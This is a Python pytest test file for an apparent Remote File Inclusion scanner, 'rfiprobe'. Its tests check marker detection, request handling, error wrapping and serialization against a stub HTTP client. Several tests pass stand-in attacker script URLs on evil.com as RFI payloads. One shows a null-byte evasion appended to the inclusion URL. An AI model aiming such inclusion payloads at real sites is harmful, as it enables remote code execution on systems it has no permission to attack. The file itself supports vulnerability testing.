# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

import dataclasses

import httpx
import pytest

from rfiprobe.config import DEFAULT_TEST_SCRIPT
from rfiprobe.errors import ErrorCategory, TransportError
from rfiprobe.http.adapters import StubHttpClient
from rfiprobe.http.models import HttpRequest, HttpResponse
from rfiprobe.rfi import RFI, VULN_RESPONSE_STRING, Evasion

BASE_URL = "https://example.com/page.php?q=foo&vuln=bar"
MARKER_PAGE = '<html><body>...Remote File Inclusion (RFI) Detected: eval("1 + 1") = 2...</body></html>'


def _probe(text: str, **kwargs) -> tuple[RFI, StubHttpClient]:
    client = StubHttpClient(default=HttpResponse(ok=True, status_code=200, text=text))
    return RFI(BASE_URL, "vuln", http_client=client, **kwargs), client


def test_marker_string_is_exact():
    assert VULN_RESPONSE_STRING == 'Remote File Inclusion (RFI) Detected: eval("1 + 1") = 2'
    assert RFI.VULN_RESPONSE_STRING == VULN_RESPONSE_STRING


def test_is_vulnerable_when_marker_present():
    rfi, client = _probe(MARKER_PAGE)
    assert rfi.is_vulnerable() is True
    assert len(client.requests) == 1
    assert client.requests[0].url == rfi.inclusion_url
    assert client.requests[0].method == "GET"


@pytest.mark.parametrize(
    "body",
    ["<html>ordinary page</html>", "", VULN_RESPONSE_STRING.lower(), 'Remote File Inclusion (RFI) Detected: eval("1+1") = 2'],
)
def test_is_not_vulnerable_without_exact_marker(body):
    rfi, _ = _probe(body)
    assert rfi.is_vulnerable() is False


def test_error_status_still_returns_body():
    client = StubHttpClient(default=HttpResponse(ok=True, status_code=500, text=MARKER_PAGE))
    rfi = RFI(BASE_URL, "vuln", http_client=client)
    assert rfi.include("http://evil.com/x.php") == MARKER_PAGE
    assert rfi.is_vulnerable() is True


def test_defaults_and_test_script_override():
    rfi = RFI(BASE_URL, "vuln")
    assert rfi.test_script == DEFAULT_TEST_SCRIPT
    assert rfi.evasion is Evasion.NONE

    custom = RFI(BASE_URL, "vuln", test_script="http://tripwire.test/t.php")
    assert custom.inclusion_url.endswith("vuln=http%3A%2F%2Ftripwire.test%2Ft.php")


def test_include_forwards_method_headers_and_body():
    rfi, client = _probe("ok", method="post")
    assert rfi.method == "POST"
    rfi.include("http://evil.com/x.php", headers={"X-Test": "1"}, body="a=b")
    request: HttpRequest = client.requests[0]
    assert request.method == "POST"
    assert request.headers == {"X-Test": "1"}
    assert request.body == "a=b"

    rfi.include("http://evil.com/x.php", method="get")
    assert client.requests[1].method == "GET"


def test_transport_failure_response_raises():
    client = StubHttpClient(
        default=HttpResponse(ok=False, error_message="timed out", error_type="ReadTimeout", error_category=ErrorCategory.TIMEOUT)
    )
    rfi = RFI(BASE_URL, "vuln", http_client=client)
    with pytest.raises(TransportError) as excinfo:
        rfi.is_vulnerable()
    assert excinfo.value.category is ErrorCategory.TIMEOUT
    assert excinfo.value.url == rfi.inclusion_url
    assert "timed out" in str(excinfo.value)


def test_raising_client_is_wrapped_as_transport_error():
    class RefusingClient:
        def request(self, request):  # noqa: ARG002
            raise httpx.ConnectError("connection refused")

        def close(self):  # pragma: no cover
            return None

    rfi = RFI(BASE_URL, "vuln", http_client=RefusingClient())
    with pytest.raises(TransportError) as excinfo:
        rfi.is_vulnerable()
    assert excinfo.value.category is ErrorCategory.CONNECTION_ERROR
    assert isinstance(excinfo.value.__cause__, httpx.ConnectError)


def test_unexpected_client_errors_propagate_unmodified():
    class BrokenClient:
        def request(self, request):  # noqa: ARG002
            raise KeyError("bug")

    rfi = RFI(BASE_URL, "vuln", http_client=BrokenClient())
    with pytest.raises(KeyError):
        rfi.is_vulnerable()


def test_include_requires_client():
    with pytest.raises(RuntimeError):
        RFI(BASE_URL, "vuln").include("http://evil.com/x.php")


def test_probe_is_immutable_and_serializable():
    rfi = RFI(BASE_URL, "vuln", evasion="null_byte", test_script="http://evil.com/t.php")
    with pytest.raises(dataclasses.FrozenInstanceError):
        rfi.param = "q"  # type: ignore[misc]
    data = rfi.to_dict()
    assert data == {
        "url": BASE_URL,
        "param": "vuln",
        "evasion": "null_byte",
        "test_script": "http://evil.com/t.php",
        "inclusion_url": "https://example.com/page.php?q=foo&vuln=http%3A%2F%2Fevil.com%2Ft.php%00",
    }
    assert rfi == RFI(BASE_URL, "vuln", evasion=Evasion.NULL_BYTE, test_script="http://evil.com/t.php")
